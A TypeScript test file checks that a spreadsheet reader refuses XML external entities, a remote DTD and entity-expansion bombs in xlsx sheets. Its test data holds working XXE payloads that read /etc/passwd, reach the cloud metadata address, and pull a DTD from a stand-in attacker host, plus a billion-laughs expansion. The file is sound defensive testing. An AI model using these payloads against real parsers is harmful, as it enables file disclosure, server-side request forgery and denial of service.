/** Workbooks whose XML wants files, other machines, or to become a billion times as long. */
import { strToU8 } from 'fflate'
import { describe, expect, it } from 'vitest'
import { readFile } from '../../functions/list/table/read-table.ts'
import { workbook } from '../samples/workbook.ts'
import { slowness, worked } from '../slowness.ts'

const sheet = (prolog: string, text: string): Uint8Array => {
  const cell = (place: string, words: string) => `<c r="${place}" t="inlineStr"><is><t>${words}</t></is></c>`
  const rows = `<row r="1">${cell('A1', 'Name')}${cell('B1', 'Email')}</row><row r="2">${cell('A2', text)}${cell('B2', 'jo@list.example')}</row>`
  const xml = `<?xml version="1.0"?>${prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`
  return workbook([{ name: 'A', cells: [] }], { 'xl/worksheets/sheet1.xml': strToU8(xml) })
}
const levels = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')

describe('a workbook', () => {
  it.each([
    ['an entity of a file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'],
    ['an entity of another machine', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]>', '&e;'],
    ['a definition from elsewhere', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', '&e;'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', '&p;'],
    ['entities of entities, a million million times', `<!DOCTYPE x [<!ENTITY e0 "ha">${levels}]>`, '&e12;'],
  ])('with %s has none of it read, and takes no time', async (_, prolog, text) => {
    const began = worked()
    const { sheets } = await readFile(sheet(prolog, text), 'list.xlsx')
    expect(worked() - began).toBeLessThan(1000 * slowness())
    const read = JSON.stringify(sheets)
    expect(read).not.toMatch(/root:|haha|ami-id/)
    expect(read.length).toBeLessThan(2000)
  })

  it('without any of that is read', async () => {
    const { sheets } = await readFile(sheet('', 'Jo &amp; Al'), 'list.xlsx')
    expect(sheets[0]?.rows).toEqual([['Jo & Al', 'jo@list.example']])
  })
})
